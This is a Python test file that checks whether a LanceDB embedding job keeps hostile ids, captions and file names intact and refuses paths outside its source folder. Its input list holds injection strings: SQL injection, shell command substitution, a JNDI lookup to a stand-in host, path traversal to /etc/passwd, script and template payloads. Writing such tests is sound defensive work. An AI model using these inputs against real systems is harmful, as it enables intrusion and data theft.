"""Ids, captions and other texts of any content go through the job and back: written, found again, filtered, deleted."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import lancedb
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lancedb.expr import col, lit

import lance_align
from lance_align import JobReport
from lance_align.errors import JobError, SourceError
from lance_align.jobs.sources import open_source
from lance_align.jobs.sources.texts import with_valid_text
from tests.corpus import parquet, png

HOSTILE = [
    "",
    " ",
    "\t\n",
    "' OR 1=1 --",
    '"; DROP TABLE photos; --',
    "''",
    "\\'",
    "%",
    "_",
    "a' || 'b",
    "id",
    "null",
    "NULL",
    "true",
    "nan",
    "0",
    "007",
    "-0",
    "1e400",
    "../../../../etc/passwd",
    "..",
    ".",
    "/",
    "/etc/passwd",
    "C:\\Windows\\system32",
    "\\\\host\\share",
    "~",
    "file:///etc/passwd",
    "s3://bucket/key",
    "http://127.0.0.1/",
    "$(touch hacked)",
    "`touch hacked`",
    "{{7*7}}",
    "${jndi:ldap://evil.test/x}",
    "<script>alert(1)</script>",
    "=1+1",
    "a\0b",
    "\0",
    "line\nbreak",
    "carriage\rreturn",
    "tab\tbed",
    "\x1b[2J\x1b[31m",
    "\x7f\x80\x9f",
    "\ufeffwith a mark",
    "abc\u202ecba",
    "\u200f\u05e9\u05dc\u05d5\u05dd\u200e",
    "\u2066\u2069",
    "\u200b",
    "é",
    "e\u0301",
    "ﬀ",
    "İ",
    "ß",
    "👨‍👩‍👧‍👦",
    "🏴\U000e0067\U000e0062\U000e007f",
    "\U0010ffff",
    "\ufffd",
    "\ufffe\uffff",
    "𝕳𝖊𝖑𝖑𝖔",
    "\\xff",
    "a" * 4096,
    "x" * 2**20,
    "👾" * 2**18,
    "'" * 2**16,
    "\n" * 1000 + "end",
]

TEXTS = st.text(max_size=30) | st.text(alphabet="'\"\\%_;-/.\0\n\r\u202e\u200f ", max_size=12)


def listing(folder: Path) -> set[str]:
    """Everything below a folder, by its path."""
    return {str(path) for path in folder.rglob("*")}


def embed(source: Path, db: Path, **options: Any) -> Any:
    return lance_align.embed(source, db=db, table="photos", model="fake", progress=False, **options)


def check_round_trip(texts: list[str], tmp_path: Path) -> None:
    """Write rows named by the texts, find them again, filter and delete them; nothing lands outside the table."""
    before = listing(tmp_path)
    captions = texts[1:] + texts[:1]
    table = pa.table({"id": texts, "caption": captions, "note": texts})
    source = parquet(table, tmp_path / "rows.parquet", group_rows=100)
    report = embed(source, tmp_path / "db", text="caption", embed="text")
    blank = {text for text, caption in zip(texts, captions, strict=True) if not caption.strip()}
    assert (report.rows_read, report.failed, report.embedded) == (len(texts), len(blank), len(texts) - len(blank))
    again = embed(source, tmp_path / "db", text="caption", embed="text")
    assert (again.rows_read, again.already_there, again.embedded, again.failed) == (len(texts), len(texts), 0, 0)

    photos = lancedb.connect(tmp_path / "db").open_table("photos")
    rows = {row["id"]: row for row in photos.to_arrow().to_pylist()}
    assert rows.keys() == set(texts)
    encoder = lance_align.load_encoder("fake")
    for text, caption in zip(texts, captions, strict=True):
        row = rows[text]
        assert (row["caption"], row["note"]) == (caption, text)
        assert row["error"] == ("empty: a blank text" if text in blank else None)
        if text not in blank:
            np.testing.assert_array_equal(np.float32(row["vector"]), encoder.encode_texts([caption])[0])
    left = len(texts)
    for text in texts[:20] + texts[-5:]:
        found = photos.search().where(col("id") == lit(text)).select(["id"]).to_list()
        assert [row["id"] for row in found] == [text]
        photos.delete(f"id = {lancedb.util.value_to_sql(text)}")
        left -= 1
        assert photos.count_rows() == left
    allowed = (str(tmp_path / "db"), str(source))
    assert [path for path in listing(tmp_path) - before if not path.startswith(allowed)] == []
    assert [path.name for path in (tmp_path / "db").iterdir()] == ["photos.lance"]


def test_hostile_texts_round_trip(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    check_round_trip(HOSTILE, tmp_path)
    assert [path for path in listing(tmp_path) if "hacked" in path] == []


@given(texts=st.lists(TEXTS, min_size=250, max_size=400, unique=True))
@settings(
    max_examples=1,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)
def test_any_texts_round_trip(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    check_round_trip(texts, tmp_path_factory.mktemp("texts"))


def test_hostile_image_paths_are_missing(tmp_path: Path) -> None:
    """As paths inside data: whatever lies outside the source's folder is not looked at."""
    (tmp_path / "in").mkdir()
    (tmp_path / "secret.png").write_bytes(png(1))
    paths = [*HOSTILE, "../secret.png", str(tmp_path / "secret.png"), (tmp_path / "secret.png").as_uri()]
    table = pa.table({"id": [str(number) for number in range(len(paths))], "image": paths})
    with pytest.raises(JobError, match=r"none of .* rows could be embedded") as caught:
        embed(parquet(table, tmp_path / "in" / "rows.parquet"), tmp_path / "db")
    report = caught.value.report
    assert isinstance(report, JobReport)
    assert (report.embedded, report.failed) == (0, len(paths))
    assert report.reasons.keys() <= {"missing", "fetch"}
    for row in lancedb.connect(tmp_path / "db").open_table("photos").to_arrow().to_pylist():
        assert row["error"].replace("\u200d", "").isprintable()
        assert len(row["error"]) < 2000


def test_files_with_hostile_names(tmp_path: Path) -> None:
    names = [text for text in HOSTILE if text.strip() and "/" not in text and "\0" not in text and len(text) < 50]
    names = [f"{text}.png" for text in names]
    (tmp_path / "in").mkdir()
    for number, name in enumerate(names):
        (tmp_path / "in" / name).write_bytes(png(number))
    wanted = [name for name in names if not name.startswith(".")]
    report = embed(tmp_path / "in", tmp_path / "db")
    assert (report.rows_read, report.embedded, report.failed) == (len(wanted), len(wanted), 0)
    photos = lancedb.connect(tmp_path / "db").open_table("photos")
    assert set(photos.to_arrow()["id"].to_pylist()) == set(wanted)


# Bytes that are no text


def not_text(values: list[bytes | None], kind: Any = None) -> Any:
    """A text column of any bytes, as Parquet and Arrow files may hold it."""
    raw: Any = pa.array(values, pa.binary())
    return pa.Array.from_buffers(kind or pa.string(), len(raw), raw.buffers())


def test_bytes_that_are_not_utf_8_cost_nothing(tmp_path: Path) -> None:
    """Lance writes such text and cannot read its own file again: one row would have cost the table."""
    bad = [b"fine", b"\xff\xfe", b"\xed\xa0\x80", b"a\x80b"]
    table = pa.table({"id": not_text([b"\xc3", b"\xff", b"x", b"y"]), "caption": not_text(bad), "note": not_text(bad)})
    pq.write_table(table, tmp_path / "rows.parquet")
    for expected in (4, 0):
        report = embed(tmp_path / "rows.parquet", tmp_path / "db", text="caption", embed="text")
        assert (report.rows_read, report.embedded, report.failed) == (4, expected, 0)
    rows = lancedb.connect(tmp_path / "db").open_table("photos").to_arrow().to_pylist()
    shown = ["fine", r"\xff\xfe", r"\xed\xa0\x80", r"a\x80b"]
    assert {row["id"]: row["caption"] for row in rows} == dict(zip([r"\xc3", r"\xff", "x", "y"], shown, strict=True))
    assert [row["note"] for row in rows] == [row["caption"] for row in rows]


def test_text_is_mended_at_any_depth() -> None:
    text = not_text([b"\xff", b"ok", None])
    columns: dict[str, tuple[Any, Any]] = {
        "text": (text, [r"\xff", "ok", None]),
        "large": (not_text([b"\xff", b"ok", None]).cast(pa.large_string(), safe=False), [r"\xff", "ok", None]),
        "list": (pa.ListArray.from_arrays([0, 2, 2, 3], text), [[r"\xff", "ok"], [], [None]]),
        "struct": (pa.StructArray.from_arrays([text, text], ["a", "b"]), None),
        "dictionary": (pa.DictionaryArray.from_arrays([1, 0, None], text), ["ok", r"\xff", None]),
        "map": (
            pa.MapArray.from_arrays([0, 1, 1, 2], not_text([b"\xff", b"k"]), not_text([b"v", b"\xfe"])),
            [[(r"\xff", "v")], [], [("k", r"\xfe")]],
        ),
        "json": (pa.ExtensionArray.from_storage(pa.json_(), text), [r"\xff", "ok", None]),
    }
    table = with_valid_text(pa.table({name: column for name, (column, _) in columns.items()}))
    table.validate(full=True)
    for name, (column, expected) in columns.items():
        assert table.schema.field(name).type == column.type
        if name == "struct":
            expected = [{"a": cell, "b": cell} for cell in (r"\xff", "ok", None)]
        assert table.column(name).to_pylist() == expected


def test_good_columns_are_left_as_they_are() -> None:
    table = pa.table({"text": ["é", None], "list": [["a"], None], "number": [1, 2]})
    assert with_valid_text(table) is table


def test_offsets_that_lead_out_of_the_data_are_refused(tmp_path: Path) -> None:
    """An Arrow file's offsets are taken as they are; reading such a cell would read other memory."""
    sink = pa.BufferOutputStream()
    table = pa.table({"caption": ["hello", "world"]})
    with pa.ipc.new_file(sink, table.schema) as writer:
        writer.write_table(table)
    data = bytearray(sink.getvalue().to_pybytes())
    offsets = np.array([0, 5, 10], np.int32).tobytes()
    place = bytes(data).index(offsets)
    data[place + 8 : place + 12] = np.int32(10**6).tobytes()
    (tmp_path / "rows.arrow").write_bytes(data)
    source = open_source(tmp_path / "rows.arrow")
    with pytest.raises(SourceError, match=r"column 'caption' is damaged \(.*\); write the file again"):
        list(source.read(source.splits[0]))
